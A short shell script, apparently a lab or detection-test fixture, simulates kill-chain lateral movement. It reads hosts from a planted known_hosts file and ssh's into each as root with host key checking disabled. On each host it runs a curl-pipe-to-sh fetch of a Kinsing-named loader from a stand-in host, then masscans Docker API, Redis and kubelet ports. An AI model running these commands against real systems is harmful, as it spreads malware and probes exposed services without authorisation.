#!/bin/sh
# Kill chain, lateral movement: targets read from a known_hosts file (the lab's own), an ssh
# loop with host key checking off running a loader (stand-in ssh: identification exchange
# only), a scanner (stand-in masscan) probing the Docker API, Redis and kubelet ports of a
# lab host.
set -eu
mkdir -p "$LAB_TMP/kc/.ssh"
echo '198.51.100.22 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKsakerlab' > "$LAB_TMP/kc/.ssh/known_hosts"
for h in $(cut -d' ' -f1 "$LAB_TMP/kc/.ssh/known_hosts"); do
	ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i "$LAB_TMP/kc/.ssh/id_rsa" "root@$h" \
		'curl -fsS http://downloads.example.org/kinsing.sh | sh'
done
masscan -p2375,6379,10250 198.51.100.22 --rate 100
